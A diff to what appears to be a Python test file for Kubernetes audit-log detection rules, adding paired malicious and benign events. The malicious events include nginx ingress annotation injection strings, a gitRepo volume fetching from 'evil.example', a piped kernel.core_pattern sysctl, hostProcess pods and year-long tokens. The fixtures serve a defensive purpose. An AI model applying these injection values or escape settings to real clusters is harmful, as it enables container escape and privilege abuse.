@@ -32,7 +32,83 @@ BY_POLICY = (
     "request: no"
 )
 
+
+def token(seconds: int, **more: Any) -> dict[str, Any]:
+    body = {"kind": "TokenRequest", "spec": {"expirationSeconds": seconds}}
+    said: dict[str, Any] = {"name": "app", "subresource": "token", "code": 201}
+    return event("create", "serviceaccounts", requestObject=body, **(said | more))
+
+
+def review(whom: str, subresource: str, **more: Any) -> dict[str, Any]:
+    asked = {"verb": "create", "resource": "nodes", "subresource": subresource}
+    body = {"spec": {"user": whom, "resourceAttributes": asked}}
+    said: dict[str, Any] = {"user": "system:node:node-1", "namespace": "", "code": 201}
+    return event("create", "subjectaccessreviews", requestObject=body, **(said | more))
+
+
+def ingress(annotations: dict[str, str], path: str = "/", **more: Any) -> dict[str, Any]:
+    rules = [{"http": {"paths": [{"path": path}]}}]
+    body = {"metadata": {"annotations": annotations}, "spec": {"rules": rules}}
+    return event("create", "ingresses", name="web", requestObject=body, code=201, **more)
+
+
+def annotated(key: str, **more: Any) -> dict[str, Any]:
+    body = {"metadata": {"annotations": {key: "reader"}}}
+    return event("patch", "serviceaccounts", name="app", requestObject=body, **more)
+
+
+def pod(**spec: Any) -> dict[str, Any]:
+    containers = {"containers": [{"name": "a", "image": "b"}]}
+    return event("create", name="p", requestObject={"spec": containers | spec}, code=201)
+
+
+NGINX = "nginx.ingress.kubernetes.io/"
+YEAR = 31_536_000
+
 PAIRS = {
+    "service_account_token_short": pair(
+        token(600),
+        [token(YEAR), token(600, **SYSTEM), token(3600, user="system:node:node-1")],
+    ),
+    "system_account_long_token": pair(
+        token(YEAR, **SYSTEM),
+        [token(3600, **SYSTEM), token(YEAR), token(YEAR, code=403, **SYSTEM)],
+    ),
+    "kubelet_asked_directly": pair(
+        review("system:serviceaccount:monitoring:agent", "proxy"),
+        [
+            review("kube-apiserver-kubelet-client", "proxy"),
+            review("system:serviceaccount:monitoring:agent", "metrics"),
+            review("bob", "proxy", user="alice"),
+        ],
+    ),
+    "ingress_injection": pair(
+        [
+            ingress({f"{NGINX}configuration-snippet": "x"}),
+            ingress({f"{NGINX}auth-url": "http://a/#;}\nload_module x"}),
+            ingress({}, "/a;{ lua }"),
+        ],
+        [
+            ingress({f"{NGINX}auth-url": "http://auth.shop.svc/check"}, "/api/v1"),
+            ingress({"example.com/note": "a;b"}),
+        ],
+    ),
+    "cloud_identity_bound": pair(
+        [annotated("eks.amazonaws.com/role-arn"), annotated("azure.workload.identity/client-id")],
+        [annotated("example.com/owner"), annotated("eks.amazonaws.com/role-arn", code=403)],
+    ),
+    "container_escape_settings": pair(
+        [
+            pod(volumes=[{"name": "g", "gitRepo": {"repository": "https://evil.example/x"}}]),
+            pod(shareProcessNamespace=True),
+            pod(securityContext={"windowsOptions": {"hostProcess": True}}),
+            pod(securityContext={"sysctls": [{"name": "kernel.core_pattern", "value": "|/x"}]}),
+        ],
+        pod(
+            shareProcessNamespace=False,
+            securityContext={"sysctls": [{"name": "net.ipv4.tcp_syncookies", "value": "1"}]},
+        ),
+    ),
     "authenticated_access_granted": pair(
         [
             everybody("system:authenticated"),
